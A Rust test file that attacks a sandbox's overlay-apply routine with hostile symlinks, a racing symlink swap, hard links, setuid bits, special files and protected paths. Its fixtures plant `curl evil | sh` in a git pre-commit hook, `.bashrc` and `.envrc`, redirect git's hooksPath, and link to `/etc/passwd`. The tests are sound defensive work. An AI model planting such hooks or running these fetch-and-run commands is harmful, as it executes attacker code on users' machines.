//! `overlay::apply` attacked by a hostile upper layer and a hostile
//! workspace: symlinks out, symlinked directories, a racing symlink swap,
//! protected paths, setuid bits, fifos, sockets and devices, hard links.

mod overlay_support;

use overlay_support::*;
use runproof_sandbox::overlay::{self, Action, ApplyOptions, ApplyReport, Resolver};
use std::os::unix::fs::MetadataExt;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

fn both_resolvers() -> [ApplyOptions; 2] {
    [
        ApplyOptions::default(),
        ApplyOptions {
            force_fallback_resolver: true,
            ..Default::default()
        },
    ]
}

fn refused(r: &ApplyReport, path: &str) -> String {
    r.refused
        .iter()
        .find(|e| e.path == path)
        .unwrap_or_else(|| panic!("{path} was not refused:\n{r}"))
        .reason
        .clone()
}

fn skipped(r: &ApplyReport, path: &str) -> &'static str {
    r.skipped
        .iter()
        .find(|e| e.path == path)
        .unwrap_or_else(|| panic!("{path} was not skipped:\n{r}"))
        .protected_by
}

fn empty_dir(p: &Path) -> bool {
    std::fs::read_dir(p).unwrap().next().is_none()
}

#[test]
fn openat2_is_used_on_this_kernel() {
    let t = TempDir::new("resolver");
    let (u, w) = (t.sub("u"), t.sub("w"));
    write(&u, "a", "a\n");
    let r = overlay::apply(&u, &w, &ApplyOptions::default()).unwrap();
    assert_eq!(r.resolver, Resolver::Openat2, "kernel >= 5.6 has openat2");
    let r = overlay::apply(&u, &w, &both_resolvers()[1]).unwrap();
    assert_eq!(r.resolver, Resolver::OpenatNofollow);
    assert!(r.to_string().contains("openat2 is not available"));
}

#[test]
fn symlinks_leaving_the_workspace_are_refused() {
    for opts in both_resolvers() {
        let t = TempDir::new("symout");
        let (u, w) = (t.sub("upper"), t.sub("ws"));
        write(&w, "src/a.rs", "a\n");
        symlink(&u, "abs", "/etc/passwd");
        symlink(&u, "up", "../outside");
        symlink(&u, "src/deep-up", "../../x");
        symlink(&u, "hook", ".git/hooks/pre-commit");
        symlink(&u, "src/rc", "../.bashrc");
        symlink(&u, "fine", "src/a.rs");
        let r = overlay::apply(&u, &w, &opts).unwrap();
        assert!(refused(&r, "abs").contains("absolute path"));
        assert!(refused(&r, "up").contains("leaves the workspace"));
        assert!(refused(&r, "src/deep-up").contains("leaves the workspace"));
        assert!(refused(&r, "hook").contains("protected"));
        assert!(refused(&r, "src/rc").contains("protected"));
        for p in ["abs", "up", "src/deep-up", "hook", "src/rc"] {
            assert!(std::fs::symlink_metadata(w.join(p)).is_err(), "{p} created");
        }
        assert_eq!(
            std::fs::read_link(w.join("fine")).unwrap(),
            Path::new("src/a.rs")
        );
    }
}

#[test]
fn a_workspace_symlink_to_outside_is_never_written_through() {
    for opts in both_resolvers() {
        let t = TempDir::new("symdir");
        let (u, w, victim) = (t.sub("upper"), t.sub("ws"), t.sub("victim"));
        symlink(&w, "sub", &victim);
        // The layer writes sub/file with sub a plain (merged) directory.
        write(&u, "sub/file", "planted\n");
        write(&u, "sub/deeper/x", "planted\n");
        let r = overlay::apply(&u, &w, &opts).unwrap();
        assert!(empty_dir(&victim), "wrote through the symlink: {r}");
        // The merged view had a real directory there (the kernel agrees, see
        // overlay_diff::file_and_directory_replace_each_other), so that is
        // what the workspace now has.
        let md = std::fs::symlink_metadata(w.join("sub")).unwrap();
        assert!(md.is_dir());
        assert_eq!(std::fs::read(w.join("sub/file")).unwrap(), b"planted\n");
    }
}

/// A host process swaps a workspace directory with a symlink to a victim
/// directory as fast as it can while apply runs: nothing may land in the victim.
#[test]
fn racing_symlink_swap_never_redirects_a_write() {
    for opts in both_resolvers() {
        let t = TempDir::new("race");
        let (u, victim) = (t.sub("upper"), t.sub("victim"));
        for i in 0..300 {
            write(&u, format!("sub/f{i}"), format!("{i}\n"));
        }
        for round in 0..15 {
            let w = t.sub(&format!("ws{round}"));
            mkdir(&w, "sub");
            symlink(&w, "decoy", &victim);
            let stop = Arc::new(AtomicBool::new(false));
            let swapper = {
                let (w, stop) = (w.clone(), stop.clone());
                std::thread::spawn(move || {
                    let dir = std::fs::File::open(&w).unwrap();
                    while !stop.load(Ordering::Relaxed) {
                        let _ = rustix::fs::renameat_with(
                            &dir,
                            "sub",
                            &dir,
                            "decoy",
                            rustix::fs::RenameFlags::EXCHANGE,
                        );
                    }
                })
            };
            let r = overlay::apply(&u, &w, &opts);
            stop.store(true, Ordering::Relaxed);
            swapper.join().unwrap();
            // The walk itself may fail when the tree moves under it; what
            // matters is that no write went through the symlink.
            let _ = r;
            assert!(
                empty_dir(&victim),
                "round {round} ({:?}): a write landed outside the workspace",
                opts.force_fallback_resolver
            );
        }
    }
}

#[test]
fn protected_paths_are_skipped_and_reported() {
    let t = TempDir::new("protected");
    let (u, w) = (t.sub("upper"), t.sub("ws"));
    write(&w, ".bashrc", "original\n");
    write(&w, ".vscode/settings.json", "{}\n");
    write(&w, ".git/HEAD", "ref: refs/heads/main\n");
    write(&w, ".git/config", "[core]\n");

    write(&u, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
    chmod(&u, ".git/hooks/pre-commit", 0o755);
    write(&u, ".git/config", "[core]\n\thooksPath = /tmp/evil\n");
    write(&u, ".git/HEAD", "ref: refs/heads/other\n");
    write(&u, ".bashrc", "curl evil | sh\n");
    write(&u, "sub/.envrc", "curl evil | sh\n");
    write(&u, ".claude/settings.json", "{\"hooks\":{}}\n");
    write(&u, ".mcp.json", "{}\n");
    write(&u, ".VSCode/tasks.json", "{}\n");
    write(&u, "vendor/.git", "gitdir: ../evil\n");
    write(&u, "ok.txt", "fine\n");
    mkdir(&u, ".vscode");
    whiteout(&u, ".vscode/settings.json");

    let opts = ApplyOptions {
        include_git_metadata: true,
        ..Default::default()
    };
    let r = overlay::apply(&u, &w, &opts).unwrap();
    assert_eq!(skipped(&r, ".git/hooks"), ".git/hooks");
    assert_eq!(skipped(&r, ".git/hooks/pre-commit"), ".git/hooks");
    assert_eq!(skipped(&r, ".git/config"), ".git/config");
    assert_eq!(skipped(&r, ".bashrc"), ".bashrc");
    assert_eq!(skipped(&r, "sub/.envrc"), ".envrc");
    assert_eq!(skipped(&r, ".claude/settings.json"), ".claude");
    assert_eq!(skipped(&r, ".mcp.json"), ".mcp.json");
    assert_eq!(skipped(&r, ".VSCode/tasks.json"), ".vscode");
    assert_eq!(skipped(&r, ".vscode/settings.json"), ".vscode");
    assert_eq!(skipped(&r, "vendor/.git"), ".git");
    assert!(r.to_string().contains("skipped .bashrc: protected"));

    assert!(!w.join(".git/hooks").exists());
    assert_eq!(std::fs::read(w.join(".git/config")).unwrap(), b"[core]\n");
    assert_eq!(std::fs::read(w.join(".bashrc")).unwrap(), b"original\n");
    assert!(w.join(".vscode/settings.json").exists());
    for p in [
        "sub/.envrc",
        ".claude",
        ".mcp.json",
        ".VSCode",
        "vendor/.git",
    ] {
        assert!(!w.join(p).exists(), "{p} was written");
    }
    // What is not protected went in, .git/HEAD included (asked for).
    assert_eq!(std::fs::read(w.join("ok.txt")).unwrap(), b"fine\n");
    assert_eq!(
        std::fs::read(w.join(".git/HEAD")).unwrap(),
        b"ref: refs/heads/other\n"
    );

    // Without include_git_metadata, .git is not touched at all.
    let w2 = t.sub("ws2");
    write(&w2, ".git/HEAD", "ref: refs/heads/main\n");
    let r = overlay::apply(&u, &w2, &ApplyOptions::default()).unwrap();
    assert_eq!(r.excluded_git, vec![".git", "vendor/.git"]);
    assert_eq!(
        std::fs::read(w2.join(".git/HEAD")).unwrap(),
        b"ref: refs/heads/main\n"
    );
}

#[test]
fn setuid_bits_are_dropped_and_modes_kept() {
    let t = TempDir::new("modes");
    let (u, w) = (t.sub("upper"), t.sub("ws"));
    write(&u, "suid", "x\n");
    chmod(&u, "suid", 0o4755);
    write(&u, "sgid", "x\n");
    chmod(&u, "sgid", 0o2711);
    write(&u, "private", "x\n");
    chmod(&u, "private", 0o600);
    write(&u, "d/f", "x\n");
    chmod(&u, "d", 0o3775);
    let r = overlay::apply(&u, &w, &ApplyOptions::default()).unwrap();
    let mode = |p: &str| std::fs::symlink_metadata(w.join(p)).unwrap().mode() & 0o7777;
    assert_eq!(mode("suid"), 0o755);
    assert_eq!(mode("sgid"), 0o711);
    assert_eq!(mode("private"), 0o600);
    assert_eq!(mode("d"), 0o775);
    let e = r.applied.iter().find(|e| e.path == "suid").unwrap();
    assert_eq!(e.action, Action::WroteFile);
    assert!(e.note.as_deref().unwrap().contains("setuid"));
}

#[test]
fn fifos_sockets_and_devices_are_never_created() {
    let t = TempDir::new("special");
    let (u, w) = (t.sub("upper"), t.sub("ws"));
    write(&w, "was-file", "keep\n");
    fifo(&u, "pipe");
    fifo(&u, "was-file");
    chardev(&u, "mem", 1, 1);
    let _sock = std::os::unix::net::UnixListener::bind(u.join("sock")).unwrap();
    let r = overlay::apply(&u, &w, &ApplyOptions::default()).unwrap();
    for p in ["pipe", "mem", "sock", "was-file"] {
        assert!(refused(&r, p).contains("never creates"), "{p}");
    }
    assert!(!w.join("pipe").exists() && !w.join("mem").exists() && !w.join("sock").exists());
    assert_eq!(std::fs::read(w.join("was-file")).unwrap(), b"keep\n");
}

#[test]
fn a_hard_link_to_an_outside_file_is_replaced_not_written_through() {
    let t = TempDir::new("hardlink");
    let (u, w, outside) = (t.sub("upper"), t.sub("ws"), t.sub("outside"));
    write(&outside, "secret", "outside content\n");
    std::fs::hard_link(outside.join("secret"), w.join("linked")).unwrap();
    write(&u, "linked", "new content\n");
    overlay::apply(&u, &w, &ApplyOptions::default()).unwrap();
    assert_eq!(
        std::fs::read(outside.join("secret")).unwrap(),
        b"outside content\n"
    );
    assert_eq!(std::fs::read(w.join("linked")).unwrap(), b"new content\n");
}

#[test]
fn apply_is_idempotent_and_atomic_per_file() {
    let t = TempDir::new("idem");
    let (u, w) = (t.sub("upper"), t.sub("ws"));
    write(&w, "a", "old\n");
    write(&w, "gone", "x\n");
    write(&u, "a", "new\n");
    write(&u, "b/c", "c\n");
    whiteout(&u, "gone");
    let r1 = overlay::apply(&u, &w, &ApplyOptions::default()).unwrap();
    assert!(r1.is_complete(), "{r1}");
    assert_eq!(r1.applied.len(), 4, "{r1:#?}"); // a, b, b/c, gone
    let r2 = overlay::apply(&u, &w, &ApplyOptions::default()).unwrap();
    assert!(
        r2.applied.is_empty(),
        "second apply changed {:?}",
        r2.applied
    );
    // `a` and `b/c` compared equal; `b` and `gone` are no change any more.
    assert_eq!(r2.unchanged, 2);
    // No temporary files are left behind.
    let names: Vec<_> = std::fs::read_dir(&w)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    assert!(
        names.iter().all(|n| !n.starts_with(".runproof-apply")),
        "{names:?}"
    );
}

#[test]
fn a_directory_holding_protected_entries_is_kept() {
    let t = TempDir::new("keepdir");
    let (u, w) = (t.sub("upper"), t.sub("ws"));
    // The layer deletes a directory that holds editor config...
    write(&w, "blocked/x", "x\n");
    write(&w, "blocked/.vscode/settings.json", "{}\n");
    whiteout(&u, "blocked");
    // ...and replaces another such directory with a file.
    write(&w, "replaced/.idea/workspace.xml", "<x/>\n");
    write(&u, "replaced", "now a file\n");
    write(&u, "other", "ok\n");
    let r = overlay::apply(&u, &w, &ApplyOptions::default()).unwrap();
    assert_eq!(skipped(&r, "blocked/.vscode"), ".vscode");
    assert_eq!(skipped(&r, "blocked/.vscode/settings.json"), ".vscode");
    assert!(refused(&r, "blocked").contains("not empty"));
    assert!(
        r.refused
            .iter()
            .any(|e| e.path == "replaced" && e.reason.contains("in the way")),
        "{r}"
    );
    assert!(
        !w.join("blocked/x").exists(),
        "the rest of the deletion happened"
    );
    assert!(w.join("blocked/.vscode/settings.json").exists());
    assert!(w.join("replaced/.idea/workspace.xml").exists());
    assert_eq!(std::fs::read(w.join("other")).unwrap(), b"ok\n");
    // No temporary file stays behind after the refused rename.
    let names: Vec<_> = std::fs::read_dir(&w)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(names.len(), 3, "{names:?}");
}
